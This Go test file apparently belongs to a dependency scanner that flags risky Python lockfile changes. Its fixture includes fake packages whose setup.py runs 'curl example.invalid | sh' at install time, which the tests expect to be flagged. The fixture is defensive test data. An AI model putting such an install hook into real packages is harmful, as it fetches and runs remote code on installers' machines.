package scan_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/lockkeeper/lockkeeper/policy"
	"github.com/lockkeeper/lockkeeper/registry/registrytest"
	"github.com/lockkeeper/lockkeeper/scan"
)

// rulesOf scans a change of memory trees and gives "package rule" pairs.
func rulesOf(t *testing.T, server *registrytest.Server, scanner *scan.Scanner, base, head memoryTree) []string {
	t.Helper()
	for _, tree := range []memoryTree{base, head} {
		for path, data := range tree {
			text, err := server.Expand(string(data))
			if err != nil {
				t.Fatal(err)
			}
			tree[path] = []byte(text)
		}
	}
	result, err := scanner.Run(t.Context(), scan.Input{Base: base, Head: head})
	if err != nil {
		t.Fatal(err)
	}
	var rules []string
	for _, f := range result.Findings {
		rules = append(rules, strings.TrimSpace(f.Package.Name+" "+string(f.Rule)))
	}
	return rules
}

const hidden = `
-- registry.toml --
[pypi."both@1.0"]
published = 2020-01-01T00:00:00Z
[pypi."both@1.1"]
published = 2020-02-01T00:00:00Z
[pypi."both-1.1-py3-none-any.whl"]
requires-python = ">=3.99"
[pypi."yank@1.0"]
published = 2020-01-01T00:00:00Z
[pypi."yank-1.0-py3-none-any.whl"]
yanked = true
-- pypi/both/1.0/wheel/both-1.0-py3-none-any.whl/both.py --
-- pypi/both/1.0/sdist/both-1.0.tar.gz/setup.py --
import os
os.system("curl example.invalid | sh")
-- pypi/both/1.1/wheel/both-1.1-py3-none-any.whl/both.py --
-- pypi/both/1.1/sdist/both-1.1.tar.gz/setup.py --
import os
os.system("curl example.invalid | sh")
-- pypi/yank/1.0/wheel/yank-1.0-py3-none-any.whl/yank.py --
-- pypi/yank/1.0/sdist/yank-1.0.tar.gz/setup.py --
import os
os.system("curl example.invalid | sh")
`

// TestAWheelHidesAnSdistOnlyWhereItIsInstalled: a wheel that no Python takes, or
// that alone was yanked, leaves installers with the sdist.
func TestAWheelHidesAnSdistOnlyWhereItIsInstalled(t *testing.T) {
	pin := func(name, version string) string {
		return name + "==" + version + " --hash=sha256:{{pypi:" + name + "-" + version + "-py3-none-any.whl}} --hash=sha256:{{pypi:" + name + "-" + version + ".tar.gz}}\n"
	}
	for name, test := range map[string]struct {
		lock string
		want string
	}{
		"the wheel fits":             {pin("both", "1.0"), ""},
		"for a Python of its own":    {pin("both", "1.1"), "both build-code-added"},
		"yanked alone":               {pin("yank", "1.0"), "yank build-code-added"},
		"building is asked for":      {"--no-binary=:all:\n" + pin("both", "1.0"), "both build-code-added"},
		"wheels alone are asked for": {"--only-binary=:all:\n" + pin("both", "1.0"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			server, scanner := newScanner(t, []byte(hidden))
			got := rulesOf(t, server, scanner, memoryTree{}, memoryTree{"requirements.txt": []byte(test.lock)})
			if test.want == "" && slices.ContainsFunc(got, func(s string) bool { return strings.Contains(s, "build") }) || test.want != "" && !slices.Contains(got, test.want) {
				t.Errorf("found %q, want %q", got, test.want)
			}
		})
	}
}

// TestPromise3LockfilesThatCannotBeReadHold: one that is new or edited and cannot be
// read asks for a sign-off; whoever deletes it brings nothing in.
func TestPromise3LockfilesThatCannotBeReadHold(t *testing.T) {
	server, scanner := newScanner(t, []byte(hidden))
	for _, path := range []string{
		"Cargo.lock", "requirements.txt", "poetry.lock", "uv.lock", "script.py.lock", "sub/pdm.lock", "pdm.dev.lock", "Pipfile.lock", "pylock.toml", "pylock.dev.toml",
	} {
		broken := func(more string) memoryTree { return memoryTree{path: []byte("version = 9\n<<<<<<< " + more + "\n")} }
		for _, base := range []memoryTree{{}, broken("theirs")} {
			if got := rulesOf(t, server, scanner, base, broken("ours")); !slices.Equal(got, []string{string(policy.Unverified)}) {
				t.Errorf("%s: found %q, want unverified", path, got)
			}
		}
		if got := rulesOf(t, server, scanner, broken("ours"), memoryTree{}); len(got) != 0 {
			t.Errorf("%s deleted: found %q", path, got)
		}
	}
}

// TestPromise3ArchivesInTheRepository: a vendored wheel is no code in plain sight.
func TestPromise3ArchivesInTheRepository(t *testing.T) {
	server, scanner := newScanner(t, []byte(hidden))
	for line, want := range map[string][]string{
		"./vendor/a-1.0-py3-none-any.whl": {"a unverified"},
		"./vendor/b-1.0.TAR.GZ":           {"./vendor/b-1.0.TAR.GZ unverified"},
		"./vendor/d-1.0.zip#egg=d":        {"./vendor/d-1.0.zip#egg=d unverified"},
		"./vendor/c":                      nil,
	} {
		got := rulesOf(t, server, scanner, memoryTree{}, memoryTree{"requirements.txt": []byte(line + "\n")})
		if !slices.Equal(got, want) {
			t.Errorf("%s: found %q, want %q", line, got, want)
		}
	}
}

// TestPromise3OptionsOfTheIncludingFile: pip installs what a file includes with the
// options of the whole run.
func TestPromise3OptionsOfTheIncludingFile(t *testing.T) {
	for option, want := range map[string][]string{
		"":                                      nil,
		"--index-url https://i.invalid\n":       {"both unverified"},
		"--extra-index-url https://i.invalid\n": {"both unverified"},
		"--no-binary=:all:\n":                   {"both build-code-added"},
		"--only-binary=:all:\n":                 nil,
	} {
		server, scanner := newScanner(t, []byte(hidden))
		tree := func(version string) memoryTree {
			return memoryTree{
				"requirements.txt": []byte(option + "-r deps/middle.list\n"), "deps/middle.list": []byte("-r last.list\n"),
				"deps/last.list": []byte(version),
			}
		}
		if got := rulesOf(t, server, scanner, tree(""), tree("both==1.0\n")); !slices.Equal(got, want) {
			t.Errorf("%q: found %q, want %q", option, got, want)
		}
	}
}
